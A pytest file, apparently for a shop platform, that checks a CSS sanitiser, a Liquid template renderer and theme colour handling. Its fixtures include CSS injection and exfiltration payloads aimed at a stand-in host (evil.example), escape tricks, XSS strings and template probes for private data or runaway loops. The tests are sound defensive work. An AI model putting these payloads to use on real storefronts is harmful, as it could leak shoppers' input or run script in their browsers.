"""A shop's own CSS and Liquid: what is hostile is left out, and what is left works."""

from typing import Any

import pytest

from lockstitch.content import liquid, themes
from lockstitch.content.css import sanitised
from lockstitch.content.liquid import SAMPLE

OWN = "/media/ab/" + "c" * 62 + ".webp"
HOSTILE = [
    "@import '//evil.example/x.css';",
    "@font-face{font-family:x;src:url(//evil.example/x)}",
    "@namespace svg url(http://www.w3.org/2000/svg);",
    "@charset 'utf-7';",
    "@layer tokens { a { color: red } }",
    "@property --x { syntax: '*'; inherits: true }",
    "a{background:url(//evil.example/x)}",
    "a{background:url('https://evil.example/x')}",
    "a{background:u\\72l(//evil.example)}",
    "a{b\\61 ckground:url(//evil.example)}",
    "a{background:image-set('//evil.example/x' 1x)}",
    "a{background:url(/media/../cart/)}",
    "a{background:url(data:image/svg+xml,x)}",
    "a{--x:url(//evil.example)}",
    "a{cursor:url(//evil.example),auto}",
    "a{content:attr(value)}",
    "input[value^='a']{background:url(//evil.example/a)}",
    "a{position:fixed}",
    "a{position:absolute}",
    "a{position:sticky}",
    "a{POSITION:FIXED}",
    "a{position:var(--x)}",
    "a{z-index:9999}",
    "a{z-index:var(--z)}",
    "a{width:expression(alert(1))}",
    "a{behavior:url(#x)}",
    "a{-moz-binding:url(x)}",
    "a{color:red !important}",
    "a{all:unset}",
    "</style><script>alert(1)</script>",
    "a{color:red;}}</style>",
    "@media screen{@import 'x';}",
    "@supports (background:url(//evil.example)){a{color:red}}",
    "a::after{content:url(//evil.example)}",
]


@pytest.mark.parametrize("source", HOSTILE)
def test_hostile_css_is_left_out_and_said(source: str) -> None:
    css, left_out = sanitised(source)
    for word in ("evil", "@import", "@font-face", "fixed", "<", "expression", "!important", "9999"):
        assert word not in css.lower()
    assert "url(" not in css
    assert "position:" not in css
    assert left_out


@pytest.mark.parametrize(
    ("source", "served"),
    [
        ("a{color:red}", "body.dressed a{color:red;}"),
        ("a , .b>c{gap:1rem}", "body.dressed a,body.dressed .b>c{gap:1rem;}"),
        (":root{--x:1px}", "body.dressed{--x:1px;}"),
        ("body.head-row a{order:1}", "body.dressed.head-row a{order:1;}"),
        (f"a{{background:url({OWN})}}", f"body.dressed a{{background:url({OWN});}}"),
        ("a{position:relative;z-index:2}", "body.dressed a{position:relative;z-index:2;}"),
        ("@media (max-width:9rem){a{gap:0}}", "@media (max-width:9rem){body.dressed a{gap:0;}\n}"),
        ("@keyframes x{from{opacity:0}}", "@keyframes x{from{opacity:0;}}"),
    ],
)
def test_what_is_harmless_is_served_under_the_scope(source: str, served: str) -> None:
    css, left_out = sanitised(source)
    assert (css.strip().replace('"', ""), left_out) == (served, [])


def test_every_rule_stands_under_the_scope() -> None:
    css, _ = sanitised("html body a, body ~ p, * , :is(a,b){color:red} x{color:blue}")
    for selector in css.partition("{")[0].split(","):
        assert selector.startswith("body.dressed") or selector == "b)"


NOT_RENDERED = [
    "{% include 'x' %}", "{% render 'x' %}", "{{ shop.__class__ }}", "{{ request }}",
    "{{ shop | nosuch }}", "{% for a in (1..9999999) %}x{% endfor %}", "{% if %}",
    "{% for a in (1..1999) %}{% for b in (1..1999) %}x{% endfor %}{% endfor %}",
    "{{ products[0].cost }}", "{{ members }}", "{% tablerow a in products %}{% endtablerow %}",
    "{% increment x %}",
]  # fmt: skip


@pytest.mark.parametrize("source", NOT_RENDERED)
def test_a_template_sees_nothing_but_what_is_public(source: str) -> None:
    with pytest.raises(liquid.Unfit):
        liquid.render(source, SAMPLE)


@pytest.mark.parametrize(
    ("source", "kept"),
    [
        ("<script>alert(1)</script>a", "a"),
        ("<img src='//evil.example/x'>", "<img>"),
        ("<img src='https://evil.example/x'>", "<img>"),
        ("<p onclick='x()' style='color:red'>a</p>", "<p>a</p>"),
        ("<a href='javascript:alert(1)'>a</a>", '<a rel="noopener noreferrer">a</a>'),
        ("<form action='/cart/'><input></form>", ""),
        ("<iframe src='/'></iframe>", ""),
        ("<p class='price' id='main'>a</p>", '<p class="own-price" id="own-main">a</p>'),
        ("{% assign a = '<script>x</script>' %}{{ a }}", ""),
        ("{% for one in products %}{{ one.name }}{% endfor %}", "シャツ"),
    ],
)
def test_what_a_template_makes_is_sanitised(source: str, kept: str) -> None:
    assert liquid.render(source, SAMPLE) == kept


def test_texts_of_goods_are_escaped() -> None:
    facts: dict[str, Any] = {**SAMPLE, "shop": {"name": "<b>&", "link": "/"}}
    assert liquid.render("{{ shop.name }}", facts) == "&lt;b&gt;&amp;"


@pytest.mark.parametrize(
    ("one", "other", "ratio"),
    [("#000000", "#ffffff", 21.0), ("#777777", "#ffffff", 4.48), ("#767676", "#ffffff", 4.54)],
)
def test_contrast_is_wcags(one: str, other: str, ratio: float) -> None:
    assert round(themes.contrast(one, other), 2) == ratio


def test_colours_that_cannot_be_read_are_named() -> None:
    theme = themes.read_theme({"light-ink": "#999999", "layout-head": "nonsense"})
    found = {(one.scheme, one.ink, one.paper) for one in themes.poor(theme)}
    assert ("light", "ink", "paper") in found
    assert all(scheme == "light" for scheme, _ink, _paper in found)
    assert theme["layout"]["head"] == "row"
    assert themes.poor(themes.read_theme({})) == []


def test_a_themes_tokens_are_plain_values() -> None:
    theme = themes.read_theme({"light-paper": "red;}body{display:none", "font-sans": "x"})
    assert theme["light"]["paper"] == themes.LIGHT["paper"]
    assert theme["fonts"]["sans"] == "gothic"
